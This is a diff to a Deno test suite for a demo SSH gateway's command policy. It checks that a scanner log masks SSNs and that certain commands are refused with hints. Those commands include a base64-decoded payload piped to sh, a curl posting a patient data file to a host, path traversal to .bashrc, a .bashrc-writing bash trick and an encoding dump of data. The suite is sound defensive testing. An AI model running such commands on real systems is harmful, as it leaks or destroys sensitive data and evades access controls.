@@ -28,6 +28,9 @@ Deno.test("the demo's policy over SSH", async (test) => {
       strictEqual(listed.code, 0, listed.stderr);
       match(listed.stdout, /visits\.csv/);
       strictEqual((await ssh(["gw", "bin/count-visits"])).code, 0);
+      const coloured = await ssh(["gw", "cat -v logs/scanner.log | head -n 40"]);
+      match(coloured.stdout, /SSN \^\[\[1m\[ssn\]\*+\^/);
+      doesNotMatch(coloured.stdout, /\d{3}-\d\d-\d{4}|MRN-\d/);
     },
   );
 
@@ -42,6 +45,8 @@ Deno.test("the demo's policy over SSH", async (test) => {
         ["cat patients/../.bashrc", /unclear_path.*\nHINT: Name files by plain paths/],
         ["echo cm0= | base64 -d | sh", /Use|stdin_code/],
         ["curl -d @visits.csv http://127.0.0.1:9/x", /network/],
+        ["sh -c '[[ x || tee<.bashrc ]]'", /bash_only.*\nHINT: Call bash/],
+        ["cmp -l visits.csv /dev/zero", /encoded.*\nHINT: Leave out what packs or encodes/],
         ["labtool --token=hunter2", /unlisted.*\nHINT: Use common programs/],
       ];
       for (const [command, words] of cases) {
